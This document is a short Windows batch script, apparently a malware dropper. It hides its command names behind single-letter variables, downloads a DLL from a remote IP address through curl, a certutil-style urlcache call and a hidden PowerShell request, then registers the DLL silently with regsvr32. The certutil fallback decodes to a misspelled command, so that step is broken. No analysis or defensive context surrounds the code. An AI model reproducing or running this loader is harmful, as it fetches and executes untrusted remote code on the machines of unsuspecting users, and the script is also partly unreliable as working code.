@echo off
set i=%RANDOM%%RANDOM%
set cwd=%~dp0
set oDDSdd=t
set wKJPtc=u
set MjjBjN=r
set fBvgvv=l
set pBwPzf=c
set YWkiMe=e
set xnWuRW=s
set zxcsQb=v
set QDmYdw=2
set qAkaVx=3
set gzMnPx=g
set lKeEuS=.
set nFlaDg=d
%pBwPzf%%wKJPtc%%MjjBjN%%fBvgvv% https://198.51.100.14/sdd.dll -o "%cwd%\%i%.dll" 2>nul
if not exist "%cwd%\%i%.dll" (
  %wKJPtc%%MjjBjN%%fBvgvv%%pBwPzf%%YWkiMe%%pBwPzf%%lKeEuS% -f -split -urlcache https://198.51.100.14/sdd.dll "%cwd%\%i%.dll" >nul 2>&1
)
if not exist "%cwd%\%i%.dll" (
  powershell -nop -w hidden -c "Invoke-WebRequest -Uri 'https://198.51.100.14/sdd.dll' -OutFile '%cwd%\%i%.dll'"
)
%MjjBjN%%YWkiMe%%gzMnPx%%xnWuRW%%zxcsQb%%MjjBjN%%qAkaVx%%QDmYdw%.exe -s "%cwd%\%i%.dll"
